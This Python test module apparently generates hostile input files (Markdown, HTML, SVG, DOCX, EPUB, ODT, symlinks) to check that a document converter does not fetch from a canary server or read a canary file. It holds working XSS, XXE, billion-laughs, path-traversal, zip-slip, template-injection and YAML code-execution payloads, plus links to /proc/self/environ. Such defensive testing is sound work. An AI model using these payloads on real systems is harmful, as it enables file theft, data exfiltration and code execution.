"""The address of a canary server and the path of a canary file -> inputs that ask for them in every way we know."""

from __future__ import annotations

import base64
import io
import os
import zipfile
from pathlib import Path
from urllib.parse import quote

from tests.hostile import rtf

_WORDS = (
    "The council met on Monday and voted for the plan.\n\nMembers said that work would begin in spring.\n"
)
PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII="
)
_SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90">'


def write(folder: Path, server: str, secret: Path) -> None:
    """Write the inputs into a folder; ``{s}`` is the server's address, ``{f}`` the file's."""

    def filled(text: str) -> str:
        whole = text.replace("{s}", server).replace("{h}", server.partition(":")[2])
        return whole.replace("{f}", secret.as_uri()).replace("{p}", str(secret))

    for name, text in (_markdown() | _pages()).items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(filled(text), "utf-8")
    drawings = _disguised({name: filled(text) for name, text in _drawings().items()})
    for name, text in drawings.items():
        (folder / f"svg-{name}").mkdir()
        (folder / f"svg-{name}" / "drawing.svg").write_text(text, "utf-8")
        (folder / f"svg-{name}" / f"svg-{name}.md").write_text(
            f"# A drawing\n\n{_WORDS}\n![What it shows](drawing.svg)\n", "utf-8"
        )
    _links(folder, secret)
    for name, data in (_archives(server, secret) | _carried(drawings) | rtf.requests(server, secret)).items():
        (folder / name).write_bytes(data)


def _markdown() -> dict[str, str]:
    asks = {
        "pictures": "![a]({s}/md.png) ![b]({f}) ![c]({p}) ![d]({h}/rel.png) ![e](../../../../../../../../../..{p})"
        " ![f](%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e{p}) ![g](data:image/svg+xml;utf8,<svg/>)"
        " ![h](\\\\host\\share\\a.png) ![i](file:{p}) ![j](FILE://localhost{p}) ![k](ftp://127.0.0.1/a.png)",
        "raw": "<img src='{s}/raw.png'><iframe src='{f}'></iframe>\n\n<object data='{f}'></object>\n\n"
        "<link rel=stylesheet href='{s}/a.css'>\n\n<style>@import '{s}/b.css'; p { background: url({s}/c.png) }</style>"
        "\n\n<p style='background: url({s}/d.png)'>styled</p>\n\n<embed src='{f}'><base href='{s}/'>"
        "<meta http-equiv=refresh content='0;url={s}/e'><xi:include href='{f}' parse='text'/>",
        "attributes": "```{=html}\n<img src='{s}/attr.png'>\n```\n\n```{=latex}\n\\input{{p}}\n```\n\n"
        "`<img src='{s}/inline.png'>`{=html}\n\n![x](a.png){src={s}/attr2.png}\n\n::: {.include}\n{p}\n:::",
        "includes": "!include {p}\n\n{{< include {p} >}}\n\n.. include:: {p}\n\n\\input{{p}}\n\n$include({p})$\n\n"
        "@include {p}\n\n<!--#include file='{p}' -->\n\n[[!include {p}]]",
        "entities": "<!DOCTYPE a [<!ENTITY x SYSTEM '{f}'>]>\n\n&x; and <!ENTITY % y SYSTEM '{s}/dtd'> %y;",
        "links": "[a]({f}) [b](javascript:alert(1)) [c](JaVaScRiPt:alert(2)) [d](data:text/html,<script>x</script>)"
        " [e](vbscript:x) [f](java&#115;cript:alert(3)) [g](&#1;javascript:alert(4)) [h](view-source:x)"
        " <javascript:alert(5)> [i](jar:{s}!/a) [j](blob:x) [k](intent:x) [l](\\\\host\\x)",
        "templates": "{{ cycler.__init__.__globals__.os.environ }} {% include '{p}' %} ${PATH} $(id) `id`\n\n"
        "{{ ''.__class__.__mro__[1].__subclasses__() }} #{7*7} <%= 7*7 %>",
    }
    files = {f"md-{name}.md": f"# Asking\n\n{_WORDS}\n{text}\n" for name, text in asks.items()}
    files["md-front.md"] = (
        '---\ntitle: "{{ config }} <script>alert(1)</script>"\ncover: {p}\nurl: javascript:alert(1)\n'
        "author: ['<img src={s}/author.png onerror=alert(1)>', '\"><iframe src={f}>']\ndescription: '\"><script>'\n"
        f"css: {{s}}/a.css\nbibliography: {{p}}\ntemplate: {{p}}\ninclude-before: {{p}}\n---\n\n{_WORDS}"
    )
    files["md-cover-outside.md"] = f"---\ntitle: Cover\ncover: ../../../../../../../..{{p}}\n---\n\n{_WORDS}"
    files["md-cover-remote.md"] = f"---\ntitle: Cover\ncover: {{s}}/cover.png\n---\n\n{_WORDS}"
    files["md-yaml-tags.md"] = (
        f"---\ntitle: !!python/object/apply:os.system ['touch pwned']\nauthor: !include {{p}}\n---\n\n{_WORDS}"
    )
    return files


def _pages() -> dict[str, str]:
    inside = {
        "elements": "<img src='{s}/i.png' onerror='fetch(\"{s}/x\")' srcset='{s}/2.png 2x'><iframe src='{f}'></iframe>"
        "<object data='{f}'>object</object><embed src='{s}/e'><link rel=stylesheet href='{s}/l.css'>"
        "<video src='{s}/v.mp4' poster='{s}/p.png'></video><audio src='{s}/a.mp3'></audio>"
        "<picture><source srcset='{s}/s.webp'><img src='{p}' alt=p></picture><input type=image src='{s}/in.png'>",
        "styles": "<style>@import url({s}/i.css); @font-face {font-family: x; src: url({s}/f.ttf)}</style>"
        "<p style=\"background-image: url('{s}/bg.png'); font-family: x\">Styled words stand here in a paragraph.</p>",
        "handlers": "<p onclick='alert(1)' onmouseover=alert(2)>Handled words.</p><a href='javascript:alert(1)'>go</a>"
        "<a href='&#106;avascript:alert(2)'>go on</a><a href=' java\tscript:alert(3)'>further</a>"
        "<form action='{s}/form'><input name=q value='typed'><button formaction='javascript:alert(4)'>Send</button>"
        "</form><svg onload='alert(5)'><script>alert(6)</script><text>drawn</text></svg>"
        "<math><mtext><img src=x onerror=alert(7)></mtext></math><details ontoggle=alert(8) open>more</details>"
        "<noscript><p title='</noscript><img src=x onerror=alert(9)>'>none</noscript>",
        "svg": _SVG + "<image xlink:href='{f}' width='9' height='9'/><use href='{s}/u.svg#a'/></svg>",
        "entities": "<!DOCTYPE html [<!ENTITY x SYSTEM '{f}'>]><p>&x; stays what it is.</p>",
        "base": "<base href='{f}'><img src='a.png' alt='a picture'><a href='b.html'>next</a>",
        "data": "<img alt='d' src='data:image/svg+xml;base64,"
        "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4='>"
        "<a href='data:text/html,<script>alert(1)</script>'>data</a>",
    }
    page = (
        "<!DOCTYPE html><html><head><title>A page</title><meta name=author content='<script>alert(0)</script>'>"
        "<link rel=canonical href='javascript:alert(0)'></head><body><article><h1>A page</h1><p>{}</p>{}"
        "<p>Members said that work would begin in the spring of the coming year, if money was found.</p></article>"
        "</body></html>"
    )
    files = {f"page-{name}.html": page.format(_WORDS * 3, text) for name, text in inside.items()}
    files["page-xml.xhtml"] = (
        "<?xml version='1.0'?><!DOCTYPE html [<!ENTITY x SYSTEM '{f}'><!ENTITY % y SYSTEM '{s}/y.dtd'> %y;]>"
        "<html xmlns='http://www.w3.org/1999/xhtml' xmlns:xi='http://www.w3.org/2001/XInclude'><head><title>X</title>"
        f"</head><body><h1>X</h1><p>{_WORDS}&x;</p><xi:include href='{{f}}' parse='text'/></body></html>"
    )
    return files


def _drawings() -> dict[str, str]:
    inside = {
        "image": "<image href='{s}/a.png' width='9' height='9'/>",
        "image-file": "<image xlink:href='{f}' width='9' height='9'/>",
        "image-svg": "<image href='data:image/svg+xml;utf8,%3Csvg xmlns=%22http://www.w3.org/2000/svg%22%3E"
        "%3Cimage href=%22{s}/n.png%22/%3E%3C/svg%3E' width='9' height='9'/>",
        "use": "<use href='{s}/a.svg#b'/><use xlink:href='{f}#b'/>",
        "style": "<style>@import '{s}/a.css'; rect { fill: url({s}/b.svg#c) }</style><rect width='9' height='9'/>",
        "style-split": "<style>@imp<!-- -->ort '{s}/a.css';</style><rect width='9' height='9'/>",
        "style-escape": "<style>@\\69mport '{s}/a.css'; rect { fill: u\\72l({s}/b.svg#c) }</style><rect width='9' height='9'/>",
        "style-case": "<style>@IMPORT '{s}/a.css'; rect { fill: URL({s}/b.svg#c) }</style><rect width='9' height='9'/>",
        "style-cdata": "<style>a{}<![CDATA[@import url('{s}/a.css');]]></style><rect width='9' height='9'/>",
        "style-child": "<style>a{}<b/>@import url('{s}/a.css');</style><rect width='9' height='9'/>",
        "image-set": "<rect style=\"mask: image-set('{s}/a.png' 1x)\" width='9' height='9'/>",
        "attribute": "<rect style='fill: url({s}/a.svg#b)' filter='url({f}#f)' width='9' height='9'/>",
        "font-face": "<style>@font-face { font-family: x; src: url({s}/f.ttf) }</style><text font-family='x'>a</text>",
        "script": "<script href='{s}/a.js'/><script>fetch('{s}/b')</script>",
        "animate": "<a><animate attributeName='href' values='javascript:alert(1)'/><text>x</text></a>",
        "set": "<image id='i' width='9' height='9'><set attributeName='href' to='{s}/set.png'/></image>",
        "link": "<a href='javascript:alert(1)'><text y='20'>click</text></a>",
        "foreign": "<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='{f}'/></foreignObject>",
        "xinclude": "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='{f}' parse='text'/>",
        "base": "<g xml:base='{s}/'><image href='#a' width='9' height='9'/></g>",
        "feimage": "<filter id='f'><feImage href='{s}/fe.png'/></filter><rect filter='url(#f)' width='9' height='9'/>",
        "tref": "<text><tref xlink:href='{f}#a'/></text>",
        "pattern": "<linearGradient id='g' xlink:href='{s}/g.svg#g'/><rect fill='url(#g)' width='9' height='9'/>",
        "page-picture": "<h:img xmlns:h='http://www.w3.org/1999/xhtml' srcset='{s}/set.png 1x' alt='a'/>",
        "page-object": "<h:object xmlns:h='http://www.w3.org/1999/xhtml' data='{s}/o.svg'/>",
        "page-form": "<h:form xmlns:h='http://www.w3.org/1999/xhtml' action='{s}/f'><h:button>x</h:button></h:form>",
        "source": "<rect style='fill: src(\"{s}/s.svg#a\")' width='9' height='9'/>",
        "mpath": "<animateMotion><mpath href='{s}/m.svg#p'/></animateMotion>",
    }
    files = {name: f"{_SVG}{text}</svg>" for name, text in inside.items()}
    files["entity"] = f"<!DOCTYPE svg [<!ENTITY x SYSTEM '{{f}}'>]>{_SVG}<text>&x;</text></svg>"
    files["entity-parameter"] = (
        f"<!DOCTYPE svg [<!ENTITY % y SYSTEM '{{s}}/y.dtd'> %y;]>{_SVG}<text>a</text></svg>"
    )
    files["dtd"] = f"<!DOCTYPE svg SYSTEM '{{s}}/svg.dtd'>{_SVG}<text>a</text></svg>"
    files["stylesheet"] = (
        f"<?xml-stylesheet href='{{s}}/pi.css' type='text/css'?>{_SVG}<rect width='9' height='9'/></svg>"
    )
    laughs = "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10))
    files["laughs"] = f"<!DOCTYPE svg [<!ENTITY a0 'ha'>{laughs}]>{_SVG}<text>&a9;</text></svg>"
    return files


def _disguised(drawings: dict[str, str]) -> dict[str, str]:
    """Drawings, and such as hold them under the name of another kind: WeasyPrint draws what turns out to be SVG."""
    held = "<image href='{}' width='9' height='9'/>"
    once = f"{_SVG}{held.format(_inside(drawings['image'], 'image/png'))}</svg>"
    twice = f"{_SVG}{held.format(_inside(once, 'image/gif'))}</svg>"
    use = f"{_SVG}{held.format(_inside(drawings['use'], 'image/jpeg'))}</svg>"
    return drawings | {"disguised": once, "disguised-twice": twice, "disguised-use": use}


def _inside(text: str, kind: str = "image/svg+xml") -> str:
    return f"data:{kind};base64,{base64.b64encode(text.encode()).decode()}"


def _carried(drawings: dict[str, str]) -> dict[str, bytes]:
    """The same drawings where pages, books and word processors' files carry pictures."""
    page = "<html xmlns='http://www.w3.org/1999/xhtml'><head><title>t</title></head><body><h1>t</h1>{}</body></html>"
    words = "".join(f"<p>{line}</p>" for line in _WORDS.split("\n\n") * 3)
    long = {
        name: text.replace("<svg", "<!-- {} --><svg".format("no placeholder " * 20), 1)
        for name, text in drawings.items()
    }
    ways = (
        _inside,
        lambda text: _inside(text, "image/png"),
        lambda text: f"data:image/svg+xml;utf8,{quote(text)}",
    )
    shown = "".join(
        f"<p><img alt='{name}' src=\"{way(text)}\"/></p>" for name, text in long.items() for way in ways
    )
    files = {f"images/{name}.svg": text.encode() for name, text in drawings.items()}
    named = "".join(f"<p><img alt='{name}' src='{name}'/></p>" for name in files)
    frames = "".join(
        f"<text:p><draw:frame><draw:image xlink:href='{name}'/></draw:frame></text:p>"
        for name in (*files, "Pictures/../../escaped-4.png", "../escaped-5.png", "/tmp/escaped-6.png")
    )
    above = {"Pictures/../../escaped-4.png": PIXEL, "../escaped-5.png": PIXEL, "/tmp/escaped-6.png": PIXEL}
    paragraphs = "".join(f"<text:p>{line}</text:p>" for line in _WORDS.split("\n\n"))
    return {
        "page-drawings.html": page.format(words + shown).encode(),
        "epub-drawings.epub": epub(
            {"a.xhtml": page.format(words + named + shown)}, {f"OEBPS/{n}": d for n, d in files.items()}
        ),
        "odt-drawings.odt": odt(paragraphs + frames, files | above),
    }


def _links(folder: Path, secret: Path) -> None:
    """Symbolic links that lead out: an article, a picture, a folder, a sidecar, one to itself."""
    (folder / "link-article.md").symlink_to(secret)
    (folder / "link-loop.md").symlink_to("link-loop.md")
    (folder / "link-device.md").symlink_to("/dev/zero")
    (folder / "link-process.md").symlink_to("/proc/self/environ")
    (folder / "link-folder").symlink_to(secret.parent, target_is_directory=True)
    there = folder / "link-picture"
    there.mkdir()
    (there / "picture.png").symlink_to(secret)
    (there / "within").symlink_to(secret.parent)
    (there / "link-picture.md").write_text(
        f"# Linked\n\n{_WORDS}\n![a](picture.png) ![b](within/{secret.name})\n", "utf-8"
    )
    there = folder / "link-sidecar"
    there.mkdir()
    (there / "link-sidecar.md").write_text(f"# Linked\n\n{_WORDS}", "utf-8")
    (there / "link-sidecar.yaml").symlink_to(secret)
    (there / "link-sidecar.sources.lock").symlink_to(secret)
    there = folder / "pipe-picture"
    there.mkdir()
    os.mkfifo(there / "pipe.png")
    (there / "pipe-picture.md").write_text(f"# Piped\n\n{_WORDS}\n![a](pipe.png) ![b](/dev/zero)\n", "utf-8")
    there = folder / "device-picture"
    there.mkdir()
    (there / "zero.png").symlink_to("/dev/zero")
    (there / "device-picture.md").write_text(f"# Device\n\n{_WORDS}\n![a](zero.png)\n", "utf-8")


def docx(body: str, relations: str = "", more: dict[str, bytes] | None = None) -> bytes:
    """Return a word processor's file with a body of WordprocessingML, relations and further members."""
    types = (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/>'
        '<Override PartName="/word/document.xml" ContentType='
        '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
    )
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006/relationships"
    main = (
        f'<Relationships xmlns="{package}"><Relationship Id="r0" Type="{office}/officeDocument"'
        ' Target="word/document.xml"/></Relationships>'
    )
    document = (
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="'
        f'{office}" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"'
        ' xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
        ' xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        f"<w:body>{body}</w:body></w:document>"
    )
    members = {
        "[Content_Types].xml": types.encode(),
        "_rels/.rels": main.encode(),
        "word/_rels/document.xml.rels": f'<Relationships xmlns="{package}">{relations}</Relationships>'.encode(),
        "word/document.xml": document.encode(),
    } | (more or {})
    return zipped(members)


def epub(pages: dict[str, str], more: dict[str, bytes] | None = None, package: str = "OEBPS/p.opf") -> bytes:
    """Return a small e-book of XHTML pages and further members."""
    items = "".join(
        f'<item id="i{n}" href="{name}" media-type="application/xhtml+xml"/>' for n, name in enumerate(pages)
    )
    spine = "".join(f'<itemref idref="i{n}"/>' for n in range(len(pages)))
    opf = (
        '<package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="u"><metadata'
        ' xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:identifier id="u">x</dc:identifier><dc:title>A book</dc:title>'
        f"<dc:language>en</dc:language></metadata><manifest>{items}</manifest><spine>{spine}</spine></package>"
    )
    container = (
        '<container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles>'
        f'<rootfile full-path="{package}" media-type="application/oebps-package+xml"/></rootfiles></container>'
    )
    members = {
        "mimetype": b"application/epub+zip",
        "META-INF/container.xml": container.encode(),
        package: opf.encode(),
    }
    members |= {f"OEBPS/{name}": text.encode() for name, text in pages.items()} | (more or {})
    return zipped(members)


def odt(body: str, more: dict[str, bytes] | None = None, head: str = "") -> bytes:
    """Return an OpenDocument text with a body and further members."""
    content = (
        f'<?xml version="1.0"?>{head}<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
        ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"'
        ' xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" office:version="1.2"><office:body><office:text>'
        f"{body}</office:text></office:body></office:document-content>"
    )
    styles = (
        '<office:document-styles xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" office:version="1.2">'
        "<office:font-face-decls/><office:styles/><office:automatic-styles/><office:master-styles/>"
        "</office:document-styles>"
    )
    members = {
        "mimetype": b"application/vnd.oasis.opendocument.text",
        "content.xml": content.encode(),
        "styles.xml": styles.encode(),  # pandoc reads nothing without it
    }
    return zipped(members | (more or {}))


def zipped(members: dict[str, bytes]) -> bytes:
    """Return an archive with members under whatever names, dated 1980."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return made.getvalue()


def _archives(server: str, secret: Path) -> dict[str, bytes]:
    words = "".join(f"<w:p><w:r><w:t>{line}</w:t></w:r></w:p>" for line in _WORDS.split("\n\n"))
    paragraphs = "".join(f"<text:p>{line}</text:p>" for line in _WORDS.split("\n\n"))
    picture = (
        '<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData uri="x"><pic:pic><pic:nvPicPr><pic:cNvPr id="1"'
        ' name="p" descr="d"/></pic:nvPicPr><pic:blipFill><a:blip r:{}="r9"/></pic:blipFill></pic:pic></a:graphicData>'
        "</a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )
    image = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"
    outside = f'<Relationship Id="r9" Type="{image}" Target="{server}/docx.png" TargetMode="External"/>'
    above = f'<Relationship Id="r9" Type="{image}" Target="../../../../../../../..{secret}"/>'
    escaped = {
        "../../../../escaped-1.png": b"\x89PNG\r\n\x1a\n",
        "/tmp/escaped-2.png": b"x",
        "word/media/../../../e.png": b"x",
    }
    page = "<html xmlns='http://www.w3.org/1999/xhtml'><head><title>t</title></head><body><p>{}</p>{}</body></html>"
    entity = f"<!DOCTYPE x [<!ENTITY x SYSTEM '{secret.as_uri()}'>]>"
    return {
        "docx-external.docx": docx(words + picture.format("link"), outside),
        "docx-above.docx": docx(words + picture.format("embed"), above, escaped),
        "docx-altchunk.docx": docx(words + '<w:altChunk r:id="r8"/>', outside),
        "epub-above.epub": epub(
            {
                "a.xhtml": page.format(
                    _WORDS, f"<img src='../../../../..{secret}' alt='a'/><img src='{server}/e.png'/>"
                )
            },
            {f"OEBPS/{name}": data for name, data in escaped.items()} | escaped,
        ),
        "epub-package-above.epub": epub(
            {"a.xhtml": page.format(_WORDS, "")}, package="../../../../../../etc/passwd"
        ),
        "epub-script.epub": epub(
            {
                "a.xhtml": page.format(
                    _WORDS, "<script>alert(1)</script><p onclick='alert(1)'>x</p><form action='x'/>"
                )
            }
        ),
        "epub-entity.epub": epub({"a.xhtml": entity + page.format("&x;" + _WORDS, "")}),
        "odt-entity.odt": odt(
            paragraphs + "<text:p>&x;</text:p>", head=entity.replace("DOCTYPE x", "DOCTYPE y")
        ),
        "odt-above.odt": odt(
            paragraphs + f"<text:p><draw:frame><draw:image xlink:href='../../../../..{secret}'/></draw:frame>"
            f"<draw:frame><draw:image xlink:href='{server}/o.png'/></draw:frame></text:p>",
            escaped,
        ),
    }
